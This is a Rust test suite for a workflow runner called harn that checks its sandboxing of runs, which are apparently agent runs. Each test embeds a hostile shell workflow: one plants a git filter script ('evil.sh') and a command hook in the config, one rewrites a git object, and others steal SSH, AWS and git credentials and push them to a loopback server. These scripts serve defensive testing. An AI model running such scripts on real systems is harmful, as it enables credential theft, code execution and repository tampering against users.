//! A run's repository is its own: what a run commits is data that lands only where it may.
//! Work that writes a root's records never lands; a land never writes over a file git does
//! not track in the person's checkout, never runs git in a linked worktree a run could have
//! steered; what git or harn would later obey in a change waits for a person; a workflow
//! gets no descriptor of its caller's beyond its standard streams. Each case is an attack
//! tried end to end over the real binary.

use crate::cli::{harn_bin, json, text};
use crate::worktree::{git, Repo, RUN};
use std::path::Path;

fn with_workflow(repo: &Repo, name: &str, body: &str) {
    let path = repo.root().join(name);
    std::fs::write(&path, body).unwrap();
    std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
}

fn create(repo: &Repo, id: &str, workflow: &str) {
    let args = ["work", "create", id, workflow, "--id", id, "--objective", "o"];
    let out = repo.harn(&args, "");
    assert!(out.status.success(), "{}", text(&out));
}

/// Runs `id` in a worktree and accepts it.
fn run_and_accept(repo: &Repo, id: &str, accept: &[&str]) {
    let args = [&RUN[..2], &[id][..], &RUN[2..]].concat();
    let out = repo.harn(&args, "");
    assert_eq!(out.status.code(), Some(0), "{id}: {}", text(&out));
    let out = repo.harn(&[&["work", "accept", id][..], accept].concat(), "");
    assert_eq!(out.status.code(), Some(0), "{id}: {}", text(&out));
}

/// Commits a notify channel that runs a command into `.harnery/config.json`, beside an
/// innocent note: after a fast-forward land the person's configuration would be the run's.
const RECORDS: &str = r#"#!/bin/sh
read -r start
mkdir -p .harnery
echo '{"notify":[{"command":["/bin/sh","-c","id > mark"]}]}' > .harnery/config.json
echo notes > NOTES.md
git add -f .harnery/config.json NOTES.md && git commit -qm notes || exit 3
echo '{"op":"result","ok":true,"summary":"notes"}'
"#;

#[test]
fn work_that_writes_harns_records_never_lands_and_the_persons_configuration_stays() {
    let repo = Repo::new();
    let root = repo.root();
    let config = std::fs::read(root.join(".harnery/config.json")).unwrap();
    let main = git(&root, &["rev-parse", "main"]);
    with_workflow(&repo, "records.sh", RECORDS);
    create(&repo, "notes", "records.sh");
    run_and_accept(&repo, "notes", &[]);
    let out = repo.harn(&["work", "land", "notes"], "");
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let said = text(&out);
    assert!(said.contains(".harnery/config.json") && said.contains("never lands"), "{said}");
    assert_eq!(std::fs::read(root.join(".harnery/config.json")).unwrap(), config);
    assert_eq!(git(&root, &["rev-parse", "main"]), main, "main moved");
    assert!(!root.join("NOTES.md").exists());
    let shown = json(&repo.harn(&["work", "show", "notes", "--json"], ""));
    assert_eq!(shown["projection"]["state"], "succeeded", "{shown}");
}

/// Commits `build.log`, a name the person's repository ignores.
const IGNORED: &str = r#"#!/bin/sh
read -r start
echo "the run's" > build.log
git add -f build.log && git commit -qm log || exit 3
echo '{"op":"result","ok":true,"summary":"log"}'
"#;

#[test]
fn a_land_never_writes_over_a_file_the_persons_checkout_ignores() {
    let repo = Repo::new();
    let root = repo.root();
    std::fs::write(root.join(".gitignore"), ".harnery/\n*.log\n").unwrap();
    git(&root, &["commit", "-qam", "ignore logs"]);
    with_workflow(&repo, "log.sh", IGNORED);
    create(&repo, "log", "log.sh");
    run_and_accept(&repo, "log", &[]);
    std::fs::write(root.join("build.log"), "mine\n").unwrap();
    let main = git(&root, &["rev-parse", "main"]);
    let out = repo.harn(&["work", "land", "log"], "");
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let said = text(&out);
    assert!(said.contains("would write over") && said.contains("build.log"), "{said}");
    assert_eq!(std::fs::read_to_string(root.join("build.log")).unwrap(), "mine\n");
    assert_eq!(git(&root, &["rev-parse", "main"]), main, "main moved");
    // Moved aside, the land goes through.
    std::fs::remove_file(root.join("build.log")).unwrap();
    let out = repo.harn(&["work", "land", "log"], "");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert_eq!(std::fs::read_to_string(root.join("build.log")).unwrap(), "the run's\n");
}

/// Points its repository's `HEAD` at `main`, with a smudge and clean filter in its config and
/// attributes that apply it everywhere: in a linked worktree of the person's repository, git
/// asked to move `main` "where it is checked out" would have run the filter as the person.
const STEER: &str = r#"#!/bin/sh
read -r start
gd=$(git rev-parse --absolute-git-dir)
cat > "$gd/evil.sh" <<EOF
#!/bin/sh
touch "$PWNED" 2>/dev/null
cat
EOF
chmod +x "$gd/evil.sh"
git config filter.x.smudge "$gd/evil.sh" || exit 4
git config filter.x.clean "$gd/evil.sh" || exit 4
echo '* filter=x' > .gitattributes
git add -A >/dev/null && git commit -qm steer || exit 3
git update-ref refs/heads/main HEAD
echo 'ref: refs/heads/main' > "$gd/HEAD"
echo '{"op":"result","ok":true,"summary":"steered"}'
"#;

/// Commits one note.
const NOTE: &str = r#"#!/bin/sh
read -r start
echo "$HARN_WORK_ID" > "$HARN_WORK_ID.md"
git add -A >/dev/null && git commit -qm "$HARN_WORK_ID" || exit 3
echo '{"op":"result","ok":true,"summary":"noted"}'
"#;

#[test]
fn a_runs_head_config_and_attributes_steer_nothing_and_its_attributes_wait_for_a_person() {
    let repo = Repo::new();
    let root = repo.root();
    with_workflow(&repo, "steer.sh", STEER);
    with_workflow(&repo, "note.sh", NOTE);
    let pwned = repo.dir.path().join("PWNED");
    create(&repo, "hj", "steer.sh");
    create(&repo, "notes", "note.sh");
    for id in ["hj", "notes"] {
        let args = [&RUN[..2], &[id][..], &RUN[2..]].concat();
        let out = repo.command(&args, "").env("PWNED", &pwned).output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{id}: {}", text(&out));
    }
    // Nothing of the person's repository names the run's repository.
    assert!(!git(&root, &["worktree", "list", "--porcelain"]).contains(".worktrees"));
    // The attributes naming a filter hold the hostile item's acceptance for a person.
    let refused = repo.harn(&["work", "accept", "hj"], "");
    assert_eq!(refused.status.code(), Some(1), "{}", text(&refused));
    let said = text(&refused);
    assert!(said.contains(".gitattributes") && said.contains("* filter=x"), "{said}");
    // The person works on another branch; the land moves `main` and runs nothing.
    git(&root, &["checkout", "-q", "-b", "elsewhere"]);
    let out = repo.harn(&["work", "accept", "notes"], "");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let main = git(&root, &["rev-parse", "main"]);
    let out = repo.command(&["work", "land", "notes"], "").env("PWNED", &pwned).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(!pwned.exists(), "work land ran a run's filter as the person");
    assert_eq!(git(&root, &["rev-parse", "main~1"]), main, "main moved by the note alone");
    assert_eq!(git(&root, &["show", "main:notes.md"]), "notes");
}

/// Only the repository's own checkout is updated by a land: a branch checked out in a linked
/// worktree (the person's, or one an older harn made for a run) is refused, naming it.
#[test]
fn a_land_refuses_a_target_checked_out_in_a_linked_worktree() {
    let repo = Repo::new();
    let root = repo.root();
    with_workflow(&repo, "note.sh", NOTE);
    create(&repo, "notes", "note.sh");
    run_and_accept(&repo, "notes", &[]);
    git(&root, &["checkout", "-q", "-b", "elsewhere"]);
    let linked = repo.dir.path().join("linked");
    git(&root, &["worktree", "add", "-q", linked.to_str().unwrap(), "main"]);
    let main = git(&root, &["rev-parse", "main"]);
    let out = repo.harn(&["work", "land", "notes"], "");
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(text(&out).contains("linked worktree"), "{}", text(&out));
    assert_eq!(git(&root, &["rev-parse", "main"]), main, "main moved");
}

/// Says whether descriptor 8 reached it, by writing through it.
const DESCRIPTORS: &str = r#"#!/bin/sh
read -r start
if { echo leaked >&8; } 2>/dev/null; then s=open; else s=closed; fi
if [ -e /proc/self/fd/7 ]; then t=open; else t=closed; fi
echo "{\"op\":\"result\",\"ok\":true,\"summary\":\"8 $s 7 $t\"}"
"#;

#[test]
fn a_workflow_gets_no_descriptor_of_its_callers_beyond_its_standard_streams() {
    let repo = Repo::new();
    let root = repo.root();
    with_workflow(&repo, "fds.sh", DESCRIPTORS);
    let leak = repo.dir.path().join("leak");
    std::fs::write(&leak, "").unwrap();
    for (id, extra) in [("contained", ""), ("open", " --no-containment")] {
        create(&repo, id, "fds.sh");
        // A terminal on 7 (`script` gives the caller one) and a file on 8, made read-only
        // after it was opened for appending.
        let inner = format!(
            "exec 7<>/dev/tty 8>>'{}'; chmod 0444 '{}'; exec '{}' work run {id} --root '{}'{extra} --json",
            leak.display(),
            leak.display(),
            harn_bin().display(),
            root.display()
        );
        let out = std::process::Command::new("script")
            .args(["-qec", &inner, "/dev/null"])
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{id}: {}", text(&out));
        let shown = json(&repo.harn(&["work", "show", id, "--json"], ""));
        let proof = proof_of(&root, shown["projection"]["latest_run_id"].as_str().unwrap());
        assert_eq!(proof["run"]["summary"], "8 closed 7 closed", "{id}: {proof}");
        std::fs::set_permissions(&leak, std::os::unix::fs::PermissionsExt::from_mode(0o644))
            .unwrap();
    }
    assert_eq!(std::fs::read_to_string(&leak).unwrap(), "", "a workflow wrote through fd 8");
}

fn proof_of(root: &Path, run: &str) -> serde_json::Value {
    let path = root.join(format!(".harnery/workflows/{run}/proof.json"));
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

/// Overwrites the loose object of `shared.txt` in the person's object store with another
/// object's bytes, then commits an unrelated file: in a store shared with the person, the
/// proof would attest one file while the person's `main:shared.txt` changed under them.
const REWRITE: &str = r#"#!/bin/sh
read -r start
common=$(git rev-parse --path-format=absolute --git-common-dir)
objects="$common/objects"
[ -f "$objects/info/alternates" ] && objects=$(head -n 1 "$objects/info/alternates")
oid=$(git rev-parse HEAD:shared.txt)
target="$objects/$(echo "$oid" | cut -c1-2)/$(echo "$oid" | cut -c3-)"
tmp=$(mktemp -d)
git init -q "$tmp/x"
new=$(printf 'planted\n' | git -C "$tmp/x" hash-object -w --stdin)
planted="$tmp/x/.git/objects/$(echo "$new" | cut -c1-2)/$(echo "$new" | cut -c3-)"
if { chmod u+w "$target" && cp -f "$planted" "$target"; } 2>/dev/null; then
  echo rewritten > "$BARRIER/rewrite"
else
  echo denied > "$BARRIER/rewrite"
fi
echo docs > DOCS.md
git add DOCS.md && git commit -qm docs || exit 3
echo '{"op":"result","ok":true,"summary":"docs"}'
"#;

#[test]
fn a_run_cannot_rewrite_an_object_of_the_persons_repository() {
    if harn::work::confine::offer().landlock.is_err() {
        crate::skip::skip("this machine confines no run");
        return;
    }
    let repo = Repo::new();
    let root = repo.root();
    with_workflow(&repo, "rewrite.sh", REWRITE);
    create(&repo, "docs", "rewrite.sh");
    run_and_accept(&repo, "docs", &[]);
    let said = std::fs::read_to_string(repo.barrier.path().join("rewrite")).unwrap();
    assert_eq!(said.trim(), "denied", "the run rewrote an object of the person's store");
    let out = repo.harn(&["work", "land", "docs"], "");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert_eq!(git(&root, &["show", "main:shared.txt"]), "base");
    assert_eq!(git(&root, &["show", "main:DOCS.md"]), "docs");
    git(&root, &["fsck", "--strict", "--no-dangling"]);
}

/// Reads the person's stored git credential, SSH key and cloud login, and asks git for a
/// credential as a push would.
const CREDENTIALS: &str = r#"#!/bin/sh
read -r start
c=$(cat "$HOME/.git-credentials" 2>/dev/null)
k=$(cat "$HOME/.ssh/id_ed25519" 2>/dev/null)
a=$(cat "$HOME/.aws/credentials" 2>/dev/null)
f=$(printf 'protocol=https\nhost=git.example.invalid\n\n' | git credential fill 2>/dev/null)
printf '%s|%s|%s|%s\n' "$c" "$k" "$a" "$f" > "$BARRIER/seen-$HARN_WORK_ID"
echo '{"op":"result","ok":true,"summary":"looked"}'
"#;

#[test]
fn a_run_reads_none_of_the_persons_credentials_unless_it_may_write_them() {
    if harn::work::confine::offer().namespace.is_err() {
        crate::skip::skip("this machine gives runs no namespace");
        return;
    }
    let repo = Repo::new();
    let home = repo.dir.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir_all(home.join(".aws")).unwrap();
    std::fs::write(home.join(".git-credentials"), "https://ana:SECRET1@git.example.invalid\n")
        .unwrap();
    std::fs::write(home.join(".gitconfig"), "[credential]\n\thelper = store\n").unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "SECRET2\n").unwrap();
    std::fs::write(home.join(".aws/credentials"), "SECRET3\n").unwrap();
    with_workflow(&repo, "creds.sh", CREDENTIALS);
    for (id, isolation) in [("shared", "shared"), ("own", "worktree")] {
        create(&repo, id, "creds.sh");
        let args = ["work", "run", id, "--isolation", isolation];
        let out = repo.command(&args, "").env("HOME", &home).output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{id}: {}", text(&out));
        let seen = std::fs::read_to_string(repo.barrier.path().join(format!("seen-{id}"))).unwrap();
        assert!(!seen.contains("SECRET"), "{id}: the run read {seen:?}");
    }
    // A credential the root names as writable is the run's to use.
    let config =
        serde_json::json!({"containment": {"writable": [repo.barrier.path(), home.join(".aws")]}});
    std::fs::write(repo.root().join(".harnery/config.json"), config.to_string()).unwrap();
    create(&repo, "named", "creds.sh");
    let out = repo.command(&["work", "run", "named"], "").env("HOME", &home).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let seen = std::fs::read_to_string(repo.barrier.path().join("seen-named")).unwrap();
    assert!(seen.contains("SECRET3") && !seen.contains("SECRET1"), "{seen:?}");
}

/// Fills its own repository with 32 MiB, a megabyte at a time, then waits to be stopped.
const FILL: &str = r#"#!/bin/sh
read -r start
i=0
while [ $i -lt 32 ]; do
  head -c 1048576 /dev/zero > "fill-$i.bin"
  i=$((i + 1))
done
sleep 30
echo '{"op":"result","ok":true,"summary":"filled"}'
"#;

#[test]
fn a_run_that_fills_its_own_space_ends_at_its_disk_limit_charged_with_the_figure() {
    let repo = Repo::new();
    let root = repo.root();
    with_workflow(&repo, "fill.sh", FILL);
    create(&repo, "fill", "fill.sh");
    let args =
        [&RUN[..2], &["fill"][..], &RUN[2..], &["--limit", "disk=8M", "--json"][..]].concat();
    let started = std::time::Instant::now();
    let out = repo.harn(&args, "");
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        started.elapsed() < std::time::Duration::from_secs(25),
        "ended by its sleep, not its limit"
    );
    let doc = json(&out);
    let run = &doc["proof"]["run"];
    assert_eq!(run["class"], "resource", "{doc}");
    let said = run["error"].as_str().unwrap_or_default();
    assert!(said.contains("disk limit of 8M"), "{said}");
    let shown = json(&repo.harn(&["work", "show", "fill", "--json"], ""));
    assert_eq!(shown["projection"]["charged_attempts"], 1, "{shown}");
    let id = run["id"].as_str().unwrap();
    let shown = text(&repo.harn(&["run", "show", id], ""));
    assert!(
        shown.contains("disk 8M (its repository and temporary directory, measured every 2 s)"),
        "{shown}"
    );
    // A disk limit that does not parse is bad input, and nothing is written.
    let before = std::fs::read(root.join(".harnery/work/fill/events.jsonl")).unwrap();
    let bad = [&["work", "retry", "fill"][..], &RUN[2..], &["--limit", "disk=lots"][..]].concat();
    let out = repo.harn(&bad, "");
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(text(&out).contains("disk"), "{}", text(&out));
    let after = std::fs::read(root.join(".harnery/work/fill/events.jsonl")).unwrap();
    assert_eq!(before, after, "bad input wrote to the item's history");
}

/// A git server on loopback that answers every request `401` and remembers what each one
/// carried, so a push with a stored credential shows whether the credential was sent.
struct GitServer {
    port: u16,
    seen: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
}

impl GitServer {
    fn start() -> GitServer {
        use std::io::{Read, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let kept = seen.clone();
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(mut conn) = conn else { return };
                let _ = conn.set_read_timeout(Some(std::time::Duration::from_secs(5)));
                let mut buf = vec![0u8; 8192];
                let n = conn.read(&mut buf).unwrap_or(0);
                kept.lock().unwrap().push(String::from_utf8_lossy(&buf[..n]).into_owned());
                let reply =
                    "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"git\"\r\n\
                             Content-Length: 0\r\nConnection: close\r\n\r\n";
                let _ = conn.write_all(reply.as_bytes());
            }
        });
        GitServer { port, seen }
    }

    fn requests(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

/// Pushes its branch and a tag to the team's repository with the person's stored credential
/// when it can read it (in the URL, as an attacker would), else as git would by itself.
const PUSH: &str = r#"#!/bin/sh
read -r start
stored=$(head -n 1 "$HOME/.git-credentials" 2>/dev/null)
url="${stored:-http://127.0.0.1}:$GIT_PORT/team.git"
git push "$url" HEAD:refs/heads/main HEAD:refs/tags/v1.0 >/dev/null 2>&1
echo "{\"op\":\"result\",\"ok\":true,\"summary\":\"push exited $?\"}"
"#;

#[test]
fn a_push_to_the_teams_repository_is_stopped_by_the_network_policy_and_by_the_missing_credential_each_alone(
) {
    if harn::work::confine::offer().namespace.is_err() {
        crate::skip::skip("this machine gives runs no namespace");
        return;
    }
    let repo = Repo::new();
    let root = repo.root();
    let home = repo.dir.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(home.join(".git-credentials"), "http://ana:SECRET1@127.0.0.1\n").unwrap();
    std::fs::write(home.join(".gitconfig"), "[credential]\n\thelper = store\n").unwrap();
    with_workflow(&repo, "push.sh", PUSH);
    let server = GitServer::start();
    let port = server.port.to_string();
    let run = |id: &str, extra: &[&str]| {
        create(&repo, id, "push.sh");
        let args = [&RUN[..2], &[id][..], &RUN[2..], extra, &["--json"][..]].concat();
        let out =
            repo.command(&args, "").env("HOME", &home).env("GIT_PORT", &port).output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{id}: {}", text(&out));
        json(&out)
    };
    // The network policy alone: the credential is the run's (its path is writable), but the
    // default policy reaches only the run's adapters' vendors.
    let reveal = serde_json::json!({"containment": {"writable": [repo.barrier.path(), home.join(".git-credentials")]}});
    std::fs::write(root.join(".harnery/config.json"), reveal.to_string()).unwrap();
    let doc = run("policy", &[]);
    assert!(server.requests().is_empty(), "the push reached the server: {:?}", server.requests());
    let id = doc["proof"]["run"]["id"].as_str().unwrap();
    let shown = json(&repo.harn(&["run", "show", id, "--json"], ""));
    let refused = shown["network_refused"].as_array().unwrap();
    assert!(
        refused.iter().any(|r| r["port"] == server.port && r["host"] == "127.0.0.1"),
        "{shown}"
    );
    let said = text(&repo.harn(&["run", "show", id], ""));
    assert!(said.contains("network    none") || said.contains("network    only"), "{said}");
    assert!(said.contains(&format!("refused    127.0.0.1:{port}")), "{said}");
    // The missing credential alone: the network is open, the credential hidden.
    let hide = serde_json::json!({"containment": {"writable": [repo.barrier.path()]}});
    std::fs::write(root.join(".harnery/config.json"), hide.to_string()).unwrap();
    run("credential", &["--network", "open"]);
    let requests = server.requests();
    assert!(!requests.is_empty(), "the open network reached no server");
    assert!(
        requests.iter().all(|r| !r.to_ascii_lowercase().contains("authorization")),
        "{requests:?}"
    );
    // Both open, as before: the credential goes out (the test's server is where the harm
    // would be).
    std::fs::write(root.join(".harnery/config.json"), reveal.to_string()).unwrap();
    run("both", &["--network", "open"]);
    assert!(server.requests().iter().any(|r| r.to_ascii_lowercase().contains("authorization")));
}

#[test]
fn a_network_policy_that_does_not_parse_is_bad_input_and_writes_nothing() {
    let repo = Repo::new();
    let root = repo.root();
    with_workflow(&repo, "push.sh", PUSH);
    create(&repo, "n", "push.sh");
    let events = root.join(".harnery/work/n/events.jsonl");
    let before = std::fs::read(&events).unwrap();
    let out = repo.harn(&["work", "run", "n", "--network", "pypi.org"], "");
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(text(&out).contains("--network[0]"), "{}", text(&out));
    let config = serde_json::json!({"network": ["pypi.org:443", "pypi.org:https"]});
    std::fs::write(root.join(".harnery/config.json"), config.to_string()).unwrap();
    let out = repo.harn(&["work", "run", "n"], "");
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    let said = text(&out);
    assert!(said.contains("config.json") && said.contains("network[1]"), "{said}");
    assert_eq!(std::fs::read(&events).unwrap(), before, "bad input wrote to the item's history");
    // A policy of nothing is never run open: a run that cannot be held is refused, unrecorded.
    std::fs::write(root.join(".harnery/config.json"), "{}").unwrap();
    let out = repo.harn(&["work", "run", "n", "--network", "none", "--no-containment"], "");
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(text(&out).contains("cannot hold"), "{}", text(&out));
    assert_eq!(std::fs::read(&events).unwrap(), before, "a refused run was recorded");
}

/// An older git than harn's repositories need (`--attr-source` is git 2.40) is refused before
/// anything is recorded, naming the version and what to do. Debian bookworm's own git is 2.39.
#[test]
fn a_git_older_than_2_40_is_refused_before_anything_is_recorded() {
    let old = Path::new("/usr/bin/git");
    let version = std::process::Command::new(old).arg("version").output().ok();
    let said = version.map(|o| String::from_utf8_lossy(&o.stdout).into_owned()).unwrap_or_default();
    let minor = said
        .trim()
        .strip_prefix("git version 2.")
        .and_then(|r| r.split('.').next()?.parse::<u32>().ok());
    if minor.is_none_or(|m| m >= 40) {
        // Not a capability harn needs: a machine without an old git has nothing to refuse.
        eprintln!("no git older than 2.40 at {} ({said:?}): nothing to check", old.display());
        return;
    }
    let repo = Repo::new();
    repo.create("old");
    let bin = repo.dir.path().join("old-git");
    std::fs::create_dir_all(&bin).unwrap();
    std::os::unix::fs::symlink(old, bin.join("git")).unwrap();
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap_or_default());
    let args = [&RUN[..2], &["old"][..], &RUN[2..]].concat();
    let out = repo.command(&args, "").env("PATH", &path).output().unwrap();
    assert_ne!(out.status.code(), Some(0), "{}", text(&out));
    let said = text(&out);
    assert!(said.contains("too old") && said.contains("2.40"), "{said}");
    let shown = json(&repo.harn(&["work", "show", "old", "--json"], ""));
    assert_eq!(shown["projection"]["attempts_used"], 0, "{shown}");
}

/// A goal freezes the network policy of every run it dispatches; a tick cannot widen it.
#[test]
fn a_goal_freezes_its_runs_network_policy_and_a_tick_cannot_widen_it() {
    let repo = Repo::new();
    let root = repo.root();
    with_workflow(&repo, "push.sh", PUSH);
    create(&repo, "g-item", "push.sh");
    std::fs::write(root.join("team.json"), r#"{"implementer": {"instructions": "do it"}}"#)
        .unwrap();
    let goal = ["supervisor", "create", "g-item", "--team", "team.json", "--id", "g"];
    let out = repo.harn(&[&goal[..], &["--network", "none"]].concat(), "");
    assert!(out.status.success(), "{}", text(&out));
    let shown = text(&repo.harn(&["supervisor", "show", "g"], ""));
    assert!(shown.contains("network    none (frozen"), "{shown}");
    let out = repo
        .command(&["supervisor", "tick", "g", "--network", "open"], "")
        .env("GIT_PORT", "9")
        .output()
        .unwrap();
    assert!(out.status.code().is_some(), "{}", text(&out));
    let item = json(&repo.harn(&["work", "show", "g-item", "--json"], ""));
    let run = item["projection"]["latest_run_id"].as_str().expect("the tick dispatched a run");
    let doc = json(&repo.harn(&["run", "show", run, "--json"], ""));
    assert_eq!(doc["manifest"]["network"], "none", "{}", doc["manifest"]);
    // A bad policy is bad input, and no goal is made.
    let out = repo.harn(
        &["supervisor", "create", "g-item", "--team", "team.json", "--id", "h", "--network", "x"],
        "",
    );
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(!root.join(".harnery/goals/h").exists());
}
